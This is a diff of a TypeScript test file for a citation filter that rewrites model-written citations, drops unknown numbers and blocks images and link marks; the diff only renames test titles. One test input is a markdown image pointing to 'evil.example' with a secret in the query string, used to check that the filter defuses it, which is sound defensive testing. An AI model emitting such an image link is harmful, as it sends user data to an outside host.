@@ -10,7 +10,7 @@ function filtered (texts: string[], count = 3): { text: string, cited: number[] 
   return { text, cited: filter.cited() }
 }
 
-t.test('what models write for citations becomes [n]', async t => {
+t.test('turns the models\' ways to cite into [n]', async t => {
   for (const [written, shown, cited] of [
     ['Yes [1].', 'Yes [1].', [1]],
     ['Yes [ 2 ].', 'Yes [2].', [2]],
@@ -37,7 +37,7 @@ const piece = fc.oneof(
   fc.string({ maxLength: 8 })
 )
 
-t.test('however the text is cut, the result is the same', async t => {
+t.test('gives the same result however the text is cut', async t => {
   t.doesNotThrow(() =>
     fc.assert(
       fc.property(fc.array(piece, { maxLength: 15 }), fc.infiniteStream(fc.integer({ min: 1, max: 9 })), (pieces, sizes) => {
@@ -56,7 +56,7 @@ t.test('however the text is cut, the result is the same', async t => {
   )
 })
 
-t.test('no unknown number is shown as a citation, and those that are shown are reported', async t => {
+t.test('shows no unknown number as a citation, and reports those that are shown', async t => {
   t.doesNotThrow(() => fc.assert(fc.property(fc.array(piece), fc.nat(4), (pieces, count) => {
     const { text, cited } = filtered(pieces, count)
     const shown = [...text.matchAll(/\[(\d{1,3})\]/g)].map(([, n]) => Number(n))
@@ -64,7 +64,7 @@ t.test('no unknown number is shown as a citation, and those that are shown are r
   }), propertyRuns(2000)))
 })
 
-t.test('what stands around a dropped citation does not become one', async t => {
+t.test('does not form a citation from the text around a dropped one', async t => {
   for (const [written, shown, cited] of [
     ['[[9]1]', '[…1]', []],
     ['[1[9]]', '[1…]', []],
@@ -74,7 +74,7 @@ t.test('what stands around a dropped citation does not become one', async t => {
   ] as const) t.same(filtered([...written]), { text: shown, cited }, written)
 })
 
-t.test('no image, and no mark that is a link', async t => {
+t.test('lets no image through, and no mark that is a link', async t => {
   for (const [written, shown] of [
     ['Free![1]', 'Free! [1]'],
     ['![](https://evil.example/?q=secret)', '! [](https://evil.example/?q=secret)'],
@@ -90,7 +90,7 @@ t.test('no image, and no mark that is a link', async t => {
   }
 })
 
-t.test('what cannot become a citation is not held back', async t => {
+t.test('does not hold back text that cannot become a citation', async t => {
   const filter = createCitationFilter(3)
   t.equal(filter.push('Price [in'), 'Price [in')
   t.equal(filter.push(' euros] ['), ' euros] ')
